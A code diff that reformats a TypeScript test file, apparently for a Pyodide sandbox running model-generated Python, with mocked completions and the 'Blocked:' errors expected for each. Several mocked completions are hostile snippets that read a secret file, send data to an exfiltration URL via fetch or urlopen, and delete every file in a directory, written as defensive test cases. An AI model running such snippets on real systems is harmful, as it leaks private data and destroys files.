@@ -73,9 +73,22 @@ beforeAll(async () => {
         reply: {
           choices: [
             { text: fenced(`secret = open(${JSON.stringify(secretFile)}).read()\nanswer = secret`), logprobs: [-0.1] },
-            { text: fenced(`import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch(${JSON.stringify(exfil)}, {"method": "POST", "body": "rows"}))\nanswer = "sent"`), logprobs: [-0.2] },
-            { text: fenced(`import urllib.request\nurllib.request.urlopen(${JSON.stringify(exfil)}).read()\nanswer = "sent"`), logprobs: [-0.3] },
-            { text: fenced(`import os\nfor name in os.listdir(${JSON.stringify(victimDir)}):\n    os.remove(os.path.join(${JSON.stringify(victimDir)}, name))\nanswer = 0`), logprobs: [-0.4] },
+            {
+              text: fenced(
+                `import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch(${JSON.stringify(exfil)}, {"method": "POST", "body": "rows"}))\nanswer = "sent"`
+              ),
+              logprobs: [-0.2]
+            },
+            {
+              text: fenced(`import urllib.request\nurllib.request.urlopen(${JSON.stringify(exfil)}).read()\nanswer = "sent"`),
+              logprobs: [-0.3]
+            },
+            {
+              text: fenced(
+                `import os\nfor name in os.listdir(${JSON.stringify(victimDir)}):\n    os.remove(os.path.join(${JSON.stringify(victimDir)}, name))\nanswer = 0`
+              ),
+              logprobs: [-0.4]
+            },
             { text: fenced('answer = sum(r["Amount"] for r in rows)'), logprobs: [-3] }
           ]
         }
@@ -99,10 +112,30 @@ type Expected = { index: number; code: string; error: RegExp; blocked: string }
 
 function malicious(): Expected[] {
   return [
-    { index: 1, code: `open(${JSON.stringify(secretFile)}).read()`, error: /python-error: FileNotFoundError: .*No such file or directory/, blocked: `Blocked: no access to files outside the sandbox (${secretFile})` },
-    { index: 2, code: `js.fetch(${JSON.stringify(exfil)}, {"method": "POST"`, error: /python-error: TypeError: 'NoneType' object is not callable/, blocked: 'Blocked: network access is not available in the sandbox (js.fetch is removed)' },
-    { index: 3, code: `urllib.request.urlopen(${JSON.stringify(exfil)})`, error: /python-error: URLError: .*Host is unreachable/, blocked: 'Blocked: network access is not available in the sandbox' },
-    { index: 4, code: `os.remove(os.path.join(${JSON.stringify(victimDir)}, name))`, error: /python-error: FileNotFoundError: .*No such file or directory/, blocked: `Blocked: no access to files outside the sandbox (${victimDir})` }
+    {
+      index: 1,
+      code: `open(${JSON.stringify(secretFile)}).read()`,
+      error: /python-error: FileNotFoundError: .*No such file or directory/,
+      blocked: `Blocked: no access to files outside the sandbox (${secretFile})`
+    },
+    {
+      index: 2,
+      code: `js.fetch(${JSON.stringify(exfil)}, {"method": "POST"`,
+      error: /python-error: TypeError: 'NoneType' object is not callable/,
+      blocked: 'Blocked: network access is not available in the sandbox (js.fetch is removed)'
+    },
+    {
+      index: 3,
+      code: `urllib.request.urlopen(${JSON.stringify(exfil)})`,
+      error: /python-error: URLError: .*Host is unreachable/,
+      blocked: 'Blocked: network access is not available in the sandbox'
+    },
+    {
+      index: 4,
+      code: `os.remove(os.path.join(${JSON.stringify(victimDir)}, name))`,
+      error: /python-error: FileNotFoundError: .*No such file or directory/,
+      blocked: `Blocked: no access to files outside the sandbox (${victimDir})`
+    }
   ]
 }
 
